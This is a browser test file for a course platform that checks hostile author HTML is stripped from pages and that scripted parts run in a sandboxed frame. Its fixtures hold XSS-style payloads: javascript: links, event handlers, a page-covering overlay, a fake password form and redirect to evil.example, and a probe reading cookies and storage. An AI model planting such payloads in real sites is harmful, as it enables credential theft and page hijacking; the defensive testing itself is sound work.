# ruff: noqa: E501 - markup reads best unbroken
"""HTML with scripts, handlers, frames and styles that cover the page: harmless on the page, sealed in its frame."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from campus_activities import write_course
from playwright.sync_api import Page, expect

from studium.content import api as content
from studium.learning import api as learning

from .test_player import RUN, amina, campus  # noqa: F401 - fixtures

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

HOSTILE = """
<p>Before. <a id="bad" href="javascript:window.broken='link'">Press</a> <a id="odd" href="jAvAsCrIpT&#58;window.broken=1">Odd</a></p>
<img src="x" onerror="window.broken='error'" alt="x"><p onclick="window.broken='click'" id="p">Click me</p>
<script>window.broken = 'script'; document.title = 'taken';</script>
<style>body { display: none } #main { opacity: 0 }</style>
<div id="cover" style="position: fixed; inset: 0; z-index: 999; background: red">Cover</div>
<form action="https://evil.example/"><input name="password"><button>Sign in again</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="https://evil.example/">
<iframe src="javascript:parent.broken='frame'"></iframe><svg onload="window.broken='svg'"><script>window.broken='in svg'</script></svg>
<p>After.</p>
"""
# A part that runs, and tells what it could reach.
SEALED = """
<p id="told">Nothing yet</p><script src="/static/probe.js"></script><img src="https://pictures.example/a.png" alt="">
"""
PROBE = """
const found = [];
const attempt = (name, what) => { try { found.push(name + ":" + (what() || "empty")); } catch (error) { found.push(name + ":refused"); } };
attempt("cookie", () => document.cookie);
attempt("store", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("top", () => { top.location = "https://evil.example/"; });
attempt("origin", () => self.origin);
fetch("/my/", { credentials: "include" }).then(() => "answered", () => "refused").then((how) => {
  document.getElementById("told").textContent = [...found, "fetch:" + how].join(" ");
});
"""


@pytest.fixture
def hostile(tmp_path: Path, browser: Any, signed_in: Any, amina: Any) -> Any:  # noqa: F811
    def html(name: str, source: str) -> str:
        (tmp_path / "html").mkdir(exist_ok=True)
        (tmp_path / "html" / f"{name}.html").write_text(source)
        return f'<html url_name="{name}" filename="{name}" display_name="{name}"/>'

    folder = write_course(tmp_path, {"u": html("attack", HOSTILE), "v": html("part", SEALED)})
    (folder / "static" / "probe.js").write_text(PROBE)
    content.import_course(folder, course_key="flow-content")
    learning.forget()
    context = browser.new_context(reduced_motion="reduce", **signed_in(amina))
    page = context.new_page()
    page.asked = []
    page.on("request", lambda request: page.asked.append(request.url))
    yield page
    context.close()


def elsewhere(page: Page, site: str) -> list[str]:
    return [url for url in page.asked if not url.startswith((site, "data:", "blob:"))]  # type: ignore[attr-defined]


def test_hostile_html_does_nothing_to_the_page(hostile: Any, live_server: Any) -> None:
    hostile.goto(f"{live_server.url}/learn/{RUN}/u/")
    expect(hostile.get_by_text("Before.")).to_be_visible()
    expect(hostile.get_by_text("After.")).to_be_visible()
    hostile.get_by_text("Click me").click()
    hostile.get_by_text("Press").click()
    hostile.get_by_text("Odd").click()
    assert hostile.evaluate("window.broken") is None
    assert hostile.title() != "taken" and hostile.url.endswith("/u/")
    assert hostile.locator(".content :is(script, style, form, input, iframe)").count() == 0
    # nothing lies over the page: what is clicked in its middle is its own
    assert hostile.evaluate(
        "document.elementFromPoint(innerWidth / 2, 20).closest('#main, .player, html') !== null"
    )
    assert (
        hostile.evaluate("getComputedStyle([...document.querySelectorAll('.content div')].pop()).position")
        == "static"
    )
    assert elsewhere(hostile, live_server.url) == []


def test_a_part_with_scripts_runs_in_a_frame_that_reaches_nothing(hostile: Any, live_server: Any) -> None:
    hostile.route("https://pictures.example/**", lambda route: route.abort())
    hostile.goto(f"{live_server.url}/learn/{RUN}/v/")
    expect(hostile.get_by_role("main")).to_contain_text("It loads from pictures.example.")
    assert elsewhere(hostile, live_server.url) == []
    hostile.get_by_role("link", name="Run the interactive part").press("Enter")
    told = hostile.frame_locator("iframe.live").locator("#told")
    expect(told).to_have_text(
        "cookie:refused store:refused parent:refused top:refused origin:null fetch:refused"
    )
    assert hostile.url.endswith("/v/")
    assert {url.split("/")[2] for url in elsewhere(hostile, live_server.url)} == {"pictures.example"}


def test_opened_by_itself_nothing_in_it_runs(hostile: Any, live_server: Any) -> None:
    hostile.goto(f"{live_server.url}/learn/{RUN}/frame/part/")
    expect(hostile.locator("#told")).to_have_text("Nothing yet")
    assert hostile.url.endswith("/frame/part/")


def test_the_page_of_such_a_part_is_accessible(hostile: Any, amina: Any, signed_in: Any, clean: Any) -> None:  # noqa: F811
    clean(f"/learn/{RUN}/v/", **signed_in(amina))
